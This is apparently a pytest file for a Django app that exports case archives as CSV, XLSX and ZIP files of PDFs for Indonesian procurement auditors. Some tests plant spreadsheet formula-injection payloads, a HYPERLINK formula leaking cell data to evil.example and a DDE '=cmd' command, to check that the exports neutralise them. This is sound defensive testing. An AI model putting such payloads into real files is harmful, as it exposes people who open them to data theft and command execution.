"""The archive leaves the application: CSV and XLSX lists, and the ZIP of case-record PDFs."""
from __future__ import annotations

import csv
import datetime
import hashlib
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.workflows.test_archive import T0, archive, finish  # noqa: F401 (archive is a fixture)
from workflows.models import ExportJob

pytestmark = pytest.mark.django_db
HEADER = ["No. kasus", "Judul", "SOP", "Nomor SOP", "Versi", "Instansi", "Status", "Dimulai", "Ditutup",
          "Tepat waktu/Terlambat", "Jumlah langkah terlambat", "Pelaksana"]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.fixture
def fake_pdf(monkeypatch):
    """Stands in for the case-record renderer; records who asked for which case."""
    calls = []

    def render(case, by):
        calls.append((case.pk, by.username))
        return b"%PDF-1.7 fake " + str(case.pk).encode(), None

    monkeypatch.setattr("workflows.archive_export.render_case_record", render)
    return calls


@pytest.fixture
def evil(seed_sops, archive):
    return finish(seed_sops["PNG-UPDATE-SPSE"].latest_version, EVIL, T0)


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="arsip-kasus-' in response["Content-Disposition"]
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_the_csv_has_the_columns_an_auditor_needs(archive, people, client):
    client.force_login(people["auditor.bpk"])
    rows = read_csv(client.get(reverse("archive_csv")))
    assert rows[0] == HEADER
    by_id = {row[0]: row for row in rows[1:]}
    assert set(by_id) == {str(c.pk) for c in (archive.on_time, archive.late, archive.cancelled, archive.kaltim)}
    on_time = by_id[str(archive.on_time.pk)]
    assert on_time[1:7] == ["Update SPSE 4.5u20241204", "PEMBAHARUAN UPDATE SPSE", "", "1",
                            "Pemerintah Kabupaten Ponorogo", "Selesai"]
    assert on_time[7:] == ["Senin, 23 November 2026 09.00 WIB", "Senin, 23 November 2026 14.00 WIB",
                           "Tepat waktu", "0",
                           f"{people['admin.ppe.ponorogo'].full_name}; {people['kepala.lpse.ponorogo'].full_name}; "
                           f"{people['kepala.ukpbj.ponorogo'].full_name}"]
    late = by_id[str(archive.late.pk)]
    assert late[9:11] == ["Terlambat", "1"]
    assert by_id[str(archive.cancelled.pk)][6] == "Dibatalkan"
    kaltim = by_id[str(archive.kaltim.pk)]
    assert kaltim[3] == "J00.3/0619/BPLPSE/B.PBJ" and kaltim[8] == "Selasa, 24 November 2026 00.30 WITA"
    assert people["pm.lkpp"].full_name in kaltim[11]


def test_the_csv_follows_the_filter_and_the_auditors_scope(archive, people, client):
    client.force_login(people["auditor.bpk"])
    rows = read_csv(client.get(reverse("archive_csv"), {"status": "cancelled"}))
    assert [row[0] for row in rows[1:]] == [str(archive.cancelled.pk)]
    client.force_login(people["auditor.ponorogo"])
    rows = read_csv(client.get(reverse("archive_csv")))
    assert str(archive.kaltim.pk) not in {row[0] for row in rows[1:]} and len(rows) == 4


def test_a_formula_in_a_title_reaches_the_csv_as_text(evil, people, client):
    client.force_login(people["auditor.ponorogo"])
    rows = read_csv(client.get(reverse("archive_csv"), {"q": "HYPERLINK"}))
    assert [row[1] for row in rows[1:]] == ["'" + EVIL]


def test_the_xlsx_holds_the_same_table_with_formulas_neutralised(evil, archive, people, client):
    client.force_login(people["auditor.ponorogo"])
    response = client.get(reverse("archive_xlsx"))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADER
    by_id = {row[0]: row for row in rows[1:]}
    assert set(by_id) == {evil.pk, archive.on_time.pk, archive.late.pk, archive.cancelled.pk}
    assert by_id[archive.late.pk][4] == 1 and by_id[archive.late.pk][10] == 1  # numbers stay numbers
    assert by_id[archive.late.pk][9] == "Terlambat"
    assert by_id[evil.pk][1] == "'" + EVIL
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_xlsx_dates_are_date_cells_in_the_agencys_zone(archive, people, client):
    """Sortable and filterable in Excel; shown as the case page shows them, with WIB/WITA."""
    client.force_login(people["auditor.bpk"])
    sheet = load_workbook(io.BytesIO(client.get(reverse("archive_xlsx")).getvalue())).active
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    started, closed = rows[archive.on_time.pk][7], rows[archive.on_time.pk][8]
    assert started.is_date and started.value == datetime.datetime(2026, 11, 23, 9, 0)
    assert closed.value == datetime.datetime(2026, 11, 23, 14, 0) and closed.number_format.endswith('"WIB"')
    kaltim_closed = rows[archive.kaltim.pk][8]
    assert kaltim_closed.value == datetime.datetime(2026, 11, 24, 0, 30)
    assert kaltim_closed.number_format.endswith('"WITA"')


def test_the_xlsx_has_the_nomor_sop_where_the_sheet_has_one(archive, people, client):
    client.force_login(people["auditor.bpk"])
    sheet = load_workbook(io.BytesIO(client.get(reverse("archive_xlsx")).getvalue())).active
    nomor = {row[0]: row[3] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert nomor[archive.kaltim.pk] == "J00.3/0619/BPLPSE/B.PBJ"
    assert nomor[archive.on_time.pk] is None  # the Ponorogo sheet has none: an empty cell


def test_a_bad_filter_sends_the_download_back_to_the_list_with_a_message(archive, people, client):
    client.force_login(people["auditor.bpk"])
    for name in ("archive_csv", "archive_xlsx"):
        response = client.get(reverse(name), {"ditutup_dari": "kemarin"}, follow=True)
        assert response.status_code == 400
        page = response.content.decode()
        assert "Filter belum benar" in page and "Tanggal tidak dikenali" in page


# -- the ZIP of case records --------------------------------------------------------------

def test_the_zip_has_one_pdf_per_case_and_a_manifest_with_their_sha256(archive, fake_pdf, people, client):
    client.force_login(people["auditor.ponorogo"])
    response = client.post(reverse("archive_zip") + "?status=done")
    job = ExportJob.objects.get()
    assert response["Location"] == reverse("archive_export_progress", args=[job.pk])
    assert (job.status, job.total, job.done, job.query, job.requested_by) == (
        "done", 2, 2, "status=done", people["auditor.ponorogo"])
    assert sorted(fake_pdf) == sorted([(archive.on_time.pk, "auditor.ponorogo"), (archive.late.pk, "auditor.ponorogo")])

    download = client.get(reverse("archive_export_download", args=[job.pk]))
    assert download["Content-Type"] == "application/zip"
    bundle = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    names = sorted(bundle.namelist())
    assert names == sorted([f"kasus-{archive.on_time.pk}-update-spse-45u20241204.pdf",
                            f"kasus-{archive.late.pk}-update-spse-45u20250115.pdf", "daftar.csv"])
    manifest = list(csv.reader(io.StringIO(bundle.read("daftar.csv").decode("utf-8-sig"))))
    assert manifest[0] == [*HEADER, "Berkas", "SHA-256"]
    assert len(manifest) == 3
    for row in manifest[1:]:
        pdf = bundle.read(row[12])
        assert pdf == b"%PDF-1.7 fake " + row[0].encode()
        assert row[13] == hashlib.sha256(pdf).hexdigest()
    csv_rows = read_csv(client.get(reverse("archive_csv"), {"status": "done"}))
    assert sorted(row[:12] for row in manifest[1:]) == sorted(csv_rows[1:])


def test_the_progress_page_shows_the_bar_and_the_download_when_done(archive, fake_pdf, people, client):
    client.force_login(people["auditor.bpk"])
    response = client.post(reverse("archive_zip"), follow=True)
    job = ExportJob.objects.get()
    page = response.content.decode()
    assert f'<progress value="4" max="4"' in page and "100% — 4 dari 4 rekaman PDF" in page
    assert f'href="{reverse("archive_export_download", args=[job.pk])}"' in page
    assert 'hx-trigger' not in page and 'http-equiv="refresh"' not in page  # finished: no more polling
    assert job.total == job.done == 4


def test_while_the_zip_is_made_the_page_polls_and_reloads_without_js(archive, people, client):
    job = ExportJob.objects.create(requested_by=people["auditor.bpk"], query="", status="running", total=4, done=1)
    client.force_login(people["auditor.bpk"])
    url = reverse("archive_export_progress", args=[job.pk])
    page = client.get(url).content.decode()
    assert f'hx-get="{url}"' in page and 'hx-trigger="every 1s"' in page
    assert '<noscript><meta http-equiv="refresh" content="3"></noscript>' in page
    assert '<progress value="1" max="4"' in page and "25% — 1 dari 4" in page
    assert reverse("archive_export_download", args=[job.pk]) not in page
    fragment = client.get(url, headers={"HX-Request": "true"}).content.decode()
    assert fragment.lstrip().startswith('<article id="export-progress"') and "<html" not in fragment
    assert 'hx-trigger="every 1s"' in fragment
    # Not ready yet: the download leads back to the progress page.
    assert client.get(reverse("archive_export_download", args=[job.pk]))["Location"] == url


def test_nobody_else_sees_or_downloads_an_export(archive, fake_pdf, people, client):
    client.force_login(people["auditor.bpk"])
    client.post(reverse("archive_zip"))
    job = ExportJob.objects.get(status="done")
    client.force_login(people["auditor.ponorogo"])  # an auditor too, but not the one who asked
    assert client.get(reverse("archive_export_progress", args=[job.pk])).status_code == 404
    assert client.get(reverse("archive_export_download", args=[job.pk])).status_code == 404
    client.force_login(people["kepala.lpse.ponorogo"])  # not an auditor at all
    assert client.get(reverse("archive_export_download", args=[job.pk])).status_code == 403


def test_the_zip_holds_only_what_the_requester_may_audit(archive, fake_pdf, people, client):
    client.force_login(people["auditor.ponorogo"])
    client.post(reverse("archive_zip") + f"?agency={archive.kaltim.agency_id}")
    assert not ExportJob.objects.exists()  # Kaltim is not a choice for a Ponorogo auditor
    client.post(reverse("archive_zip"))
    job = ExportJob.objects.get()
    assert job.total == 3 and {pk for pk, _ in fake_pdf} == {archive.on_time.pk, archive.late.pk,
                                                             archive.cancelled.pk}


def test_an_export_of_nothing_is_not_started(archive, fake_pdf, people, client):
    client.force_login(people["auditor.bpk"])
    response = client.post(reverse("archive_zip") + "?q=tidak+ada+di+mana+pun", follow=True)
    assert "Tidak ada kasus yang cocok dengan filter ini" in response.content.decode()
    assert not ExportJob.objects.exists() and fake_pdf == []


def test_a_failing_pdf_fails_the_job_with_the_case_named(archive, people, client, monkeypatch):
    def broken(case, by):
        raise RuntimeError("Pango tidak ditemukan")

    monkeypatch.setattr("workflows.archive_export.render_case_record", broken)
    client.force_login(people["auditor.bpk"])
    page = client.post(reverse("archive_zip") + "?status=cancelled", follow=True).content.decode()
    job = ExportJob.objects.get()
    assert job.status == "failed" and not job.file and job.finished_at
    assert f"Rekaman kasus No. {archive.cancelled.pk} gagal dibuat: Pango tidak ditemukan" in job.error
    assert "Gagal." in page and job.error in page and "hx-trigger" not in page


def test_progress_is_saved_after_every_pdf(archive, people, client, monkeypatch):
    seen = []

    def render(case, by):  # what another connection (the progress page) would read at this moment
        job = ExportJob.objects.get()
        seen.append((job.status, job.done, job.total))
        return b"%PDF-1.7 fake", None

    monkeypatch.setattr("workflows.archive_export.render_case_record", render)
    client.force_login(people["auditor.bpk"])
    client.post(reverse("archive_zip"))
    assert seen == [("running", 0, 4), ("running", 1, 4), ("running", 2, 4), ("running", 3, 4)]


def test_a_job_runs_only_once(archive, fake_pdf, people):
    from workflows.tasks import build_archive_zip

    job = ExportJob.objects.create(requested_by=people["auditor.bpk"], query="status=cancelled")
    build_archive_zip.call(job.pk)
    build_archive_zip.call(job.pk)  # delivered twice
    job.refresh_from_db()
    assert job.status == "done" and job.done == 1 and len(fake_pdf) == 1


def test_the_zip_carries_the_real_case_records_registered_for_verification(archive, people, client):
    from workflows.models import CaseRecord

    client.force_login(people["auditor.ponorogo"])
    client.post(reverse("archive_zip") + "?status=cancelled")
    job = ExportJob.objects.get()
    assert job.status == "done", job.error
    bundle = zipfile.ZipFile(job.file.open("rb"))
    manifest = list(csv.reader(io.StringIO(bundle.read("daftar.csv").decode("utf-8-sig"))))
    [row] = manifest[1:]
    pdf = bundle.read(row[12])
    assert pdf.startswith(b"%PDF-")
    record = CaseRecord.objects.get(case=archive.cancelled)
    assert record.generated_by == people["auditor.ponorogo"] and record.sha256 == row[13]


# -- streamed downloads (issue 13: 100,000 cases) ---------------------------------------------

def old_style_rows(user, **params):
    """The rows as the export made them before it streamed: one Case object per row."""
    from django.http import QueryDict

    from workflows import archive_export
    from workflows.archive import ArchiveFilter

    query = QueryDict(mutable=True)
    query.update(params)
    cases = archive_export.for_export(ArchiveFilter(query, user=user).qs)
    return archive_export.COLUMNS, [archive_export.case_row(case) for case in cases]


def test_the_csv_streams_the_same_bytes_as_the_file_built_in_memory(evil, archive, people, client):
    from django.http import StreamingHttpResponse

    from workflows import archive_export

    client.force_login(people["auditor.bpk"])
    response = client.get(reverse("archive_csv"))
    assert isinstance(response, StreamingHttpResponse)
    assert response.getvalue() == archive_export.csv_bytes(*old_style_rows(people["auditor.bpk"]))
    chunks = list(client.get(reverse("archive_csv")).streaming_content)
    assert chunks[0].startswith(b"\xef\xbb\xbf") and chunks[0].endswith(b"Pelaksana\r\n")  # the header at once


def test_the_streamed_csv_keeps_the_persons_language(archive, people, client):
    auditor = people["auditor.bpk"]
    auditor.language = "en"
    auditor.save(update_fields=["language"])
    client.force_login(auditor)
    rows = read_csv(client.get(reverse("archive_csv"), {"status": "done"}))
    assert rows[0][0] == "Case no."  # the body is read after the view returned: still in English
    assert {row[6] for row in rows[1:]} == {"Completed"}


def test_the_xlsx_is_a_streamed_file_with_the_rows_built_one_case_at_a_time(evil, archive, people, client):
    from django.http import FileResponse

    client.force_login(people["auditor.bpk"])
    response = client.get(reverse("archive_xlsx"))
    assert isinstance(response, FileResponse) and int(response["Content-Length"]) > 0
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    rows = [["" if v is None else v for v in row] for row in sheet.iter_rows(min_row=2, values_only=True)]
    _header, expected = old_style_rows(people["auditor.bpk"])
    text_columns = [0, 1, 2, 3, 4, 5, 6, 9, 10, 11]  # the dates are date cells here, text in the CSV
    assert [[row[i] for i in text_columns] for row in rows] == [[row[i] for i in text_columns] for row in expected]


def test_the_export_reads_no_definition_per_row_and_the_same_queries_for_more_cases(archive, people, client):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from tests.workflows.test_archive import finish as finish_case

    client.force_login(people["auditor.bpk"])
    client.get(reverse("archive_csv")).getvalue()

    def queries():
        with CaptureQueriesContext(connection) as captured:
            client.get(reverse("archive_csv")).getvalue()
        return [q["sql"] for q in captured.captured_queries]

    few = queries()
    version = archive.on_time.sop_version
    for i in range(6):
        finish_case(version, f"Kasus tambahan {i}", T0)
    many = queries()
    assert len(few) == len(many), (len(few), len(many))
    assert sum('"definition"' in sql for sql in many) <= 2  # once per SOP version of the export, not per row


def test_pelaksana_are_named_once_in_order_of_first_action_and_formulas_in_names_neutralised(archive, people,
                                                                                              client):
    admin_ppe, kepala, ukpbj = people["admin.ppe.ponorogo"], people["kepala.lpse.ponorogo"], people["kepala.ukpbj.ponorogo"]
    admin_ppe.full_name = "=cmd|' /C calc'!A0"
    ukpbj.full_name = kepala.full_name  # two people, one name: written once, as before
    for person in (admin_ppe, ukpbj):
        person.save(update_fields=["full_name"])
    agency = archive.on_time.agency
    agency.name = "@Pemerintah Kabupaten Ponorogo"
    agency.save(update_fields=["name"])
    client.force_login(people["auditor.bpk"])
    by_id = {row[0]: row for row in read_csv(client.get(reverse("archive_csv")))[1:]}
    row = by_id[str(archive.on_time.pk)]
    assert row[5] == "'@Pemerintah Kabupaten Ponorogo"
    assert row[11] == f"'=cmd|' /C calc'!A0; {kepala.full_name}"
    _header, expected = old_style_rows(people["auditor.bpk"])
    assert [str(v) for v in next(r for r in expected if r[0] == archive.on_time.pk)] == row


def test_a_versions_sheet_titles_are_read_as_its_parsed_definition_names_them(seed_sops):
    from workflows.models import SopVersion

    versions = list(SopVersion.objects.all())
    titles = {pk: rest for pk, *rest in SopVersion.objects.sheet_titles(v.pk for v in versions)}
    assert titles == {v.pk: [v.number, v.spec.name, v.spec.sheet.get("nomor") or ""] for v in versions}
    assert any(nomor for _number, _name, nomor in titles.values()) and all(name for _n, name, _x in titles.values())


def test_a_versions_words_are_its_sheets_name_its_steps_kegiatan_and_its_lanes_labels(seed_sops):
    """What the deviation register names of each SOP version, as the database picks it out of
    the stored definition (on PostgreSQL) or Python reads it: the same as the parsed definition."""
    from workflows.models import SopVersion

    versions = list(SopVersion.objects.all())
    words = SopVersion.objects.words(v.pk for v in versions)
    assert words.keys() == {v.pk for v in versions}
    for version in versions:
        spec = version.spec
        assert words[version.pk].name == spec.as_data()["sheet"]["nama"] != ""
        assert words[version.pk].kegiatan == {step.no: step.kegiatan for step in spec.steps}
        assert words[version.pk].lanes == {lane.role: lane.label for lane in spec.lanes}
    assert SopVersion.objects.words([]) == {}


def test_rows_read_ahead_arrive_whole_in_order_and_a_download_left_early_frees_the_connection(archive, people):
    """On PostgreSQL the next batch is fetched by a helper thread: every row arrives once, in
    the selection's order, and a download stopped half-way (the person closed the tab) leaves
    the connection ready for the next query."""
    from workflows.archive_export import case_rows, read_ahead
    from workflows.models import Case

    closed = Case.objects.filter(closed_at__isnull=False).order_by("-closed_at", "-pk")
    expected = list(closed.values_list("pk", "title"))
    assert len(expected) >= 3
    assert [row for batch in read_ahead(closed.values_list("pk", "title"), 2) for row in batch] == expected
    assert [row[0] for row in case_rows(closed, chunk_size=1)] == [pk for pk, _ in expected]

    stopped = read_ahead(closed.values_list("pk", "title"), 1)
    assert next(stopped) == expected[:1]
    stopped.close()
    assert Case.objects.filter(closed_at__isnull=False).count() == len(expected)


@pytest.mark.django_db(transaction=True)
def test_rows_read_ahead_outside_a_transaction_arrive_whole_and_leave_no_connection_open(archive, people):
    """An export job and a streamed download read outside a transaction. On PostgreSQL the
    helper then reads on a connection of its own, in a transaction of its own (so the cursor
    streams): every row arrives once and in order, a download left early stops it, and neither
    leaves a connection to the database open."""
    from django.db import connection

    from workflows.archive_export import read_ahead
    from workflows.models import Case

    def connections_open() -> int:
        if connection.vendor != "postgresql":
            return 0
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()")
            return cursor.fetchone()[0]

    closed = Case.objects.filter(closed_at__isnull=False).order_by("-closed_at", "-pk").values_list("pk", "title")
    expected = list(closed)
    assert len(expected) >= 3
    before = connections_open()
    assert [row for batch in read_ahead(closed, 2) for row in batch] == expected
    stopped = read_ahead(closed, 1)
    assert next(stopped) == expected[:1]
    stopped.close()
    assert connections_open() == before
    assert list(closed) == expected


def test_a_date_cell_shows_the_agency_clock_also_on_a_day_its_zone_changes_offset():
    """Each day's offset is looked up once; on a day when the zone moves its clock (not in
    Indonesia since 1988, but a zone's rules are its own), each moment gets its own."""
    import types
    import zoneinfo

    from workflows.archive_export import Moments
    from workflows.xlsx import LocalTime

    berlin = types.SimpleNamespace(pk=1, time_zone="CET", tzinfo=zoneinfo.ZoneInfo("Europe/Berlin"))
    jakarta = types.SimpleNamespace(pk=2, time_zone="WIB", tzinfo=zoneinfo.ZoneInfo("Asia/Jakarta"))
    moment = Moments(date_cells=True)
    # 29 March 2026: Berlin's clocks go from 02.00 CET to 03.00 CEST (01.00 UTC).
    for utc, agency, local in [((2026, 3, 29, 0, 30), berlin, (2026, 3, 29, 1, 30)),
                               ((2026, 3, 29, 1, 30), berlin, (2026, 3, 29, 3, 30)),
                               ((2026, 3, 29, 0, 30), jakarta, (2026, 3, 29, 7, 30)),
                               ((2026, 11, 23, 16, 59, 59, 999999), jakarta, (2026, 11, 23, 23, 59, 59, 999999))]:
        cell = moment(datetime.datetime(*utc, tzinfo=datetime.UTC), agency)
        assert cell == LocalTime.of(datetime.datetime(*local), agency.time_zone)
